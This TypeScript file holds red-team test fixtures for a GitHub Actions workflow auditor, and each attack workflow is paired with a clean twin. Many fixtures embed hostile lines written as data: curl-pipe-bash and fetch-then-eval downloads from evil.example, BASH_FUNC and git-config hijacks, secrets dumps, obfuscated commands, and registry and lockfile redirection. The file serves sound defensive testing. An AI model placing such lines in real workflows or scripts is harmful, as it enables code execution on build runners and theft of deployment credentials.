/**
 * The third red team: attacks on how the audit reads YAML and expressions, on environment jobs, on
 * what `npm run` reaches and on composite actions. Each attack has a fixed twin (the same workflow
 * with the harm removed) that must audit clean; redteam.test.ts runs both. Written before the
 * policy v3 rules, so docs/deployment/workflow-policy.md can give the count the old audit caught.
 */
import type { RuleId } from "../rules";
import {
  CHECKOUT,
  DEPENDENCIES,
  DEPLOY,
  INSTALL_SH,
  lockfile,
  packageJson,
  QUALITY,
  SCRIPTS,
  swap,
} from "./repo";

export type AttackClass =
  "github-reading" | "environment-job" | "npm-reach" | "composite-action";

export interface Fixture {
  readonly yaml: string;
  /** Files laid over the case repository (repo.ts); undefined removes one. */
  readonly files?: Readonly<Record<string, string | undefined>>;
}

export interface Case {
  readonly id: string;
  /** The rule that must report the attack (it may be reported under others too). */
  readonly rule: RuleId;
  readonly cls: AttackClass;
  readonly attack: Fixture;
  readonly fixed: Fixture;
}

const EVIL = "curl -sSL https://evil.example/x | bash";

/** A deploy workflow with one more line after `at` (which stays). */
const after = (text: string, at: string, more: string) =>
  swap(text, at, `${at}${more}`);

const RELEASE_ENV = "          DEPLOY_ENV: production\n";
const DEPLOY_HEAD = "    timeout-minutes: 20\n";
const DEPLOY_CHECKOUT = `      - uses: ${CHECKOUT}\n        with:\n          persist-credentials: false\n      - uses: `;
const SETUP_WITH = "          package-manager-cache: false\n";
const DOWNLOAD_WITH = "          path: .open-next\n";
const UPLOAD_WITH = "          path: reports/deploy\n";
const scripts = (patch: Record<string, string>) => ({
  "package.json": packageJson({ ...SCRIPTS, ...patch }),
});

/** The deploy job's checkout with extra `with:` lines. */
const deployCheckout = (lines: string) =>
  swap(
    DEPLOY,
    DEPLOY_CHECKOUT,
    `      - uses: ${CHECKOUT}\n        with:\n          persist-credentials: false\n${lines}      - uses: `,
  );

const COMPOSITE = (steps: string) => `name: Prepare
description: prepares the job
runs:
  using: composite
  steps:
${steps}`;

const useComposite = swap(
  DEPLOY,
  "      - run: npm run deploy:toolset\n",
  "      - run: npm run deploy:toolset\n      - uses: ./.github/actions/prepare\n",
);

export const CASES: readonly Case[] = [
  // ---- GitHub's reading of YAML and expressions ----
  {
    id: "expression-key-run",
    rule: "yaml-expression-key",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run typecheck\n",
        `      - name: typecheck\n        \${{ 'run' }}: ${EVIL}\n`,
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run typecheck\n",
        "      - name: typecheck\n        run: npm run typecheck\n",
      ),
    },
  },
  {
    id: "expression-key-env",
    rule: "yaml-expression-key",
    cls: "github-reading",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        "          ${{ 'NODE_OPTIONS' }}: --require ./evil.cjs\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "expression-key-with",
    rule: "yaml-expression-key",
    cls: "github-reading",
    attack: {
      yaml: deployCheckout("          ${{ 'ref' }}: refs/pull/7/head\n"),
    },
    fixed: { yaml: deployCheckout("          fetch-depth: 0\n") },
  },
  {
    id: "expression-key-job",
    rule: "yaml-expression-key",
    cls: "github-reading",
    attack: {
      yaml: after(
        DEPLOY,
        DEPLOY_HEAD,
        "    ${{ 'continue-on-error' }}: true\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "expression-key-trigger",
    rule: "yaml-expression-key",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "on: pull_request\n",
        "on:\n  ${{ 'pull_request_target' }}:\n",
      ),
    },
    fixed: {
      yaml: swap(QUALITY, "on: pull_request\n", "on:\n  pull_request:\n"),
    },
  },
  {
    id: "brace-in-string-hides-secrets",
    rule: "secrets-dynamic",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ format('{0}}}', toJSON(secrets)) }}\n",
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ format('{0}}}', github.sha) }}\n",
      ),
    },
  },
  {
    id: "brace-in-string-hides-secret-name",
    rule: "secrets-environment",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ contains('}}', 'a') || secrets.CLOUDFLARE_API_TOKEN }}\n",
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ contains('}}', 'a') || github.sha }}\n",
      ),
    },
  },
  {
    id: "uppercase-secrets-context",
    rule: "secrets-environment",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          T: ${{ SECRETS.CLOUDFLARE_API_TOKEN }}\n",
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          T: ${{ GITHUB.SHA }}\n",
      ),
    },
  },
  {
    id: "mixed-case-tojson-secrets",
    rule: "secrets-dynamic",
    cls: "github-reading",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        "          ALL: ${{ ToJson(Secrets) }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "uppercase-always",
    rule: "env-if-always",
    cls: "github-reading",
    attack: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: ${{ Always() }}\n",
      ),
    },
    fixed: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: ${{ Success() }}\n",
      ),
    },
  },
  {
    id: "uppercase-failure-or",
    rule: "env-if-always",
    cls: "github-reading",
    attack: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: success() || FAILURE()\n",
      ),
    },
    fixed: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: success() && github.ref == 'refs/heads/main'\n",
      ),
    },
  },
  {
    id: "status-function-not-first",
    rule: "env-if-always",
    cls: "github-reading",
    attack: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: github.ref == 'refs/heads/main' && !cancelled()\n",
      ),
    },
    fixed: {
      yaml: swap(
        DEPLOY,
        "    if: github.ref == 'refs/heads/main'\n",
        "    if: github.ref == 'refs/heads/main' && !cancelled() && needs.quality.result == 'success'\n",
      ),
    },
  },
  {
    id: "unparseable-expression",
    rule: "expression-syntax",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ github.sha ]] SECRETS }}\n",
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        env:\n          X: ${{ github.sha }}\n",
      ),
    },
  },
  {
    id: "input-case-ref",
    rule: "checkout-ref",
    cls: "github-reading",
    attack: { yaml: deployCheckout("          Ref: refs/pull/7/merge\n") },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "input-case-repository",
    rule: "checkout-ref",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          REPOSITORY: evil/fork\n",
      ),
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "input-case-duplicate-persist",
    rule: "yaml-form",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          Persist-Credentials: true\n",
      ),
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "input-case-cache",
    rule: "env-cache",
    cls: "github-reading",
    attack: { yaml: after(DEPLOY, SETUP_WITH, "          Cache: npm\n") },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "input-case-run-id",
    rule: "artifact-same-run",
    cls: "github-reading",
    attack: {
      yaml: after(DEPLOY, DOWNLOAD_WITH, "          Run-ID: '123456'\n"),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "merge-key",
    rule: "yaml-form",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run typecheck\n",
        `      - name: typecheck\n        <<: { run: "${EVIL}" }\n`,
      ),
    },
    fixed: {
      yaml: swap(
        QUALITY,
        "      - run: npm run typecheck\n",
        "      - name: typecheck\n        run: npm run typecheck\n",
      ),
    },
  },
  {
    id: "yaml-1.1-directive",
    rule: "yaml-form",
    cls: "github-reading",
    attack: {
      yaml: `%YAML 1.1\n---\n${swap(QUALITY, "on: pull_request\n", "on: pull_request_target\n")}`,
    },
    fixed: { yaml: `---\n${QUALITY}` },
  },
  {
    id: "explicit-tag",
    rule: "yaml-form",
    cls: "github-reading",
    attack: {
      yaml: swap(
        QUALITY,
        "      - run: npm run typecheck\n",
        "      - run: !!binary Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZSB8IGJhc2g=\n",
      ),
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "concurrency-as-expression",
    rule: "env-cancel-in-progress",
    cls: "github-reading",
    attack: {
      yaml: swap(
        DEPLOY,
        "    concurrency:\n      group: deploy-production\n      cancel-in-progress: false\n",
        `    concurrency: \${{ fromJSON('{"group":"deploy-production","cancel-in-progress":true}') }}\n`,
      ),
    },
    fixed: {
      yaml: swap(
        DEPLOY,
        "      cancel-in-progress: false\n",
        "      cancel-in-progress: ${{ false }}\n",
      ),
    },
  },

  // ---- Allow-lists inside environment jobs ----
  {
    id: "env-api-base-url",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        "          CLOUDFLARE_API_BASE_URL: https://evil.example/client/v4\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-job-proxy",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        DEPLOY_HEAD,
        "    env:\n      HTTPS_PROXY: http://evil.example:3128\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-bash-function",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "      - run: npm run deploy:toolset\n",
        `      - run: npm run deploy:toolset\n        env:\n          BASH_FUNC_npm%%: "() { ${EVIL}; }"\n`,
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-git-config",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        "          GIT_CONFIG_PARAMETERS: \"'core.fsmonitor=curl -s https://evil.example | sh'\"\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-tls-off",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        '          NODE_TLS_REJECT_UNAUTHORIZED: "0"\n',
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-other-contract-name",
    rule: "env-name",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        RELEASE_ENV,
        "          WRANGLER_LOG_PATH: /tmp/shared\n",
      ),
    },
    fixed: {
      yaml: after(DEPLOY, RELEASE_ENV, "          DEPLOY_BOOKMARK: ''\n"),
    },
  },
  {
    id: "setup-node-mirror",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        SETUP_WITH,
        "          mirror: https://evil.example/node\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "setup-node-registry",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        SETUP_WITH,
        "          registry-url: https://evil.example/npm/\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "setup-node-version-literal",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "          node-version-file: .nvmrc\n",
        "          node-version: 18\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "checkout-server-url",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: deployCheckout(
        "          github-server-url: https://evil.example\n",
      ),
    },
    fixed: { yaml: deployCheckout("          fetch-depth: 0\n") },
  },
  {
    id: "checkout-path-outside",
    rule: "env-action-input",
    cls: "environment-job",
    attack: { yaml: deployCheckout("          path: ../elsewhere\n") },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "checkout-token-secret",
    rule: "secrets-placement",
    cls: "environment-job",
    attack: {
      yaml: deployCheckout(
        "          token: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "download-path-outside",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: swap(DEPLOY, DOWNLOAD_WITH, "          path: ../../_temp\n"),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "upload-hidden-files",
    rule: "env-action-input",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        UPLOAD_WITH,
        "          path: .\n          include-hidden-files: true\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "container-by-digest",
    rule: "env-image",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        DEPLOY_HEAD,
        `    container:\n      image: node@sha256:${"a".repeat(64)}\n`,
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "service-gets-secret",
    rule: "secrets-placement",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        DEPLOY_HEAD,
        `    services:\n      cache:\n        image: redis@sha256:${"b".repeat(64)}\n        env:\n          T: \${{ secrets.CLOUDFLARE_API_TOKEN }}\n`,
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "secret-in-job-env",
    rule: "secrets-placement",
    cls: "environment-job",
    attack: {
      yaml: after(
        DEPLOY,
        DEPLOY_HEAD,
        "    env:\n      CLOUDFLARE_API_TOKEN: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "secret-in-action-input",
    rule: "secrets-placement",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "          name: deploy-logs\n",
        "          name: logs-${{ secrets.CLOUDFLARE_API_TOKEN }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "release-step-always",
    rule: "env-step-if",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "      - id: release\n",
        "      - id: release\n        if: ${{ always() }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "release-step-skipped-migrate",
    rule: "env-step-if",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "      - run: npm run deploy:toolset\n",
        "      - run: npm run deploy:toolset\n      - if: github.actor == 'nobody'\n        env:\n          DEPLOY_ENV: production\n          CLOUDFLARE_API_TOKEN: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n        run: npm run deploy:migrate\n",
      ),
    },
    fixed: {
      yaml: swap(
        DEPLOY,
        "      - run: npm run deploy:toolset\n",
        "      - run: npm run deploy:toolset\n      - env:\n          DEPLOY_ENV: production\n          CLOUDFLARE_API_TOKEN: ${{ secrets.CLOUDFLARE_API_TOKEN }}\n        run: npm run deploy:migrate\n",
      ),
    },
  },
  {
    id: "no-concurrency",
    rule: "env-cancel-in-progress",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "    concurrency:\n      group: deploy-production\n      cancel-in-progress: false\n",
        "",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "needed-job-continue-on-error",
    rule: "env-continue-on-error",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "      - run: npm run lint\n",
        "      - run: npm run lint\n        continue-on-error: true\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "needed-job-continue-on-error-expression",
    rule: "env-continue-on-error",
    cls: "environment-job",
    attack: {
      yaml: swap(
        DEPLOY,
        "    timeout-minutes: 10\n",
        "    timeout-minutes: 10\n    continue-on-error: ${{ true }}\n",
      ),
    },
    fixed: { yaml: DEPLOY },
  },

  // ---- What `npm run` reaches ----
  {
    id: "node-eval-download",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({
        lint: `node -e "fetch('https://evil.example/x').then((r) => r.text()).then(eval)"`,
      }),
    },
    fixed: { yaml: QUALITY, files: scripts({ lint: "eslint ." }) },
  },
  {
    id: "split-quotes-npx",
    rule: "script-install",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({ lint: 'n"p"x cowsay && eslint .' }),
    },
    fixed: { yaml: QUALITY, files: scripts({ lint: "eslint ." }) },
  },
  {
    id: "decoded-command",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({ lint: "$(echo bnB4 | base64 -d) cowsay; eslint ." }),
    },
    fixed: { yaml: QUALITY, files: scripts({ lint: "eslint ." }) },
  },
  {
    id: "env-assignment-in-script",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({
        typecheck: "env NODE_OPTIONS=--require=./evil.cjs tsc --noEmit",
      }),
    },
    fixed: { yaml: QUALITY, files: scripts({ typecheck: "tsc --noEmit" }) },
  },
  {
    id: "prefix-assignment-in-script",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({
        typecheck: "NODE_OPTIONS=--require=./evil.cjs tsc --noEmit",
      }),
    },
    fixed: { yaml: QUALITY, files: scripts({ typecheck: "tsc --noEmit" }) },
  },
  {
    id: "python-download",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({
        lint: `python3 -c "import urllib.request as u; exec(u.urlopen('https://evil.example').read())"`,
      }),
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "npm-script-shell-flag",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({ lint: "npm --script-shell=./evil.sh run typecheck" }),
    },
    fixed: { yaml: QUALITY, files: scripts({ lint: "npm run typecheck" }) },
  },
  {
    id: "sh-c-quoted-pieces",
    rule: "script-command",
    cls: "npm-reach",
    attack: { yaml: QUALITY, files: scripts({ lint: "sh -c 'n''px cowsay'" }) },
    fixed: { yaml: QUALITY },
  },
  {
    id: "process-substitution",
    rule: "script-command",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: scripts({ lint: "bash <(cu''rl -s https://evil.example)" }),
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "executed-file-changed",
    rule: "script-pinned",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: { "scripts/deploy-toolset/install.sh": `${INSTALL_SH}${EVIL}\n` },
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "env-script-body-changed",
    rule: "script-pinned",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: scripts({
        "deploy:release":
          "tsx scripts/deploy/release-cli.ts --api-base https://evil.example",
      }),
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "lockfile-resolved-elsewhere",
    rule: "lockfile-source",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: {
        "tools/deploy/package-lock.json": lockfile("redteam-deploy-toolset", {
          wrangler: { resolved: "https://evil.example/wrangler-4.164.0.tgz" },
        }),
      },
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "lockfile-integrity-differs",
    rule: "lockfile-source",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: {
        "tools/deploy/package-lock.json": lockfile("redteam-deploy-toolset", {
          wrangler: {
            integrity: `sha512-${"E".repeat(86)}==`,
          },
        }),
      },
    },
    fixed: { yaml: DEPLOY },
  },
  {
    id: "npmrc-script-shell",
    rule: "npmrc-option",
    cls: "npm-reach",
    attack: { yaml: QUALITY, files: { ".npmrc": "script-shell=./evil.sh\n" } },
    fixed: { yaml: QUALITY, files: { ".npmrc": "fund=false\n" } },
  },
  {
    id: "npmrc-registry",
    rule: "npmrc-option",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: { "tools/deploy/.npmrc": "registry=https://evil.example/npm/\n" },
    },
    fixed: { yaml: DEPLOY, files: { "tools/deploy/.npmrc": "audit=false\n" } },
  },
  {
    id: "dependency-from-url",
    rule: "dependency-source",
    cls: "npm-reach",
    attack: {
      yaml: QUALITY,
      files: {
        "package.json": packageJson(SCRIPTS, {
          ...DEPENDENCIES,
          "left-pad": "https://evil.example/left-pad.tgz",
        }),
      },
    },
    fixed: { yaml: QUALITY },
  },
  {
    id: "dependency-from-git",
    rule: "dependency-source",
    cls: "npm-reach",
    attack: {
      yaml: DEPLOY,
      files: {
        "tools/deploy/package.json": packageJson(
          {},
          { ...DEPENDENCIES, zod: "github:evil/zod" },
        ),
      },
    },
    fixed: { yaml: DEPLOY },
  },

  // ---- Composite actions ----
  {
    id: "composite-expression-key",
    rule: "yaml-expression-key",
    cls: "composite-action",
    attack: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          `    - shell: bash\n      \${{ 'run' }}: ${EVIL}\n`,
        ),
      },
    },
    fixed: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          "    - shell: bash\n      run: npm run lint\n",
        ),
      },
    },
  },
  {
    id: "composite-continue-on-error",
    rule: "env-continue-on-error",
    cls: "composite-action",
    attack: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          "    - shell: bash\n      run: npm run deploy:migrate\n      continue-on-error: true\n",
        ),
      },
    },
    fixed: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          "    - shell: bash\n      run: npm run lint\n",
        ),
      },
    },
  },
  {
    id: "composite-env-hijack",
    rule: "env-name",
    cls: "composite-action",
    attack: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          '    - shell: bash\n      run: npm run lint\n      env:\n        BASH_FUNC_eslint%%: "() { curl -s https://evil.example | bash; }"\n',
        ),
      },
    },
    fixed: {
      yaml: useComposite,
      files: {
        ".github/actions/prepare/action.yml": COMPOSITE(
          "    - shell: bash\n      run: npm run lint\n",
        ),
      },
    },
  },
];
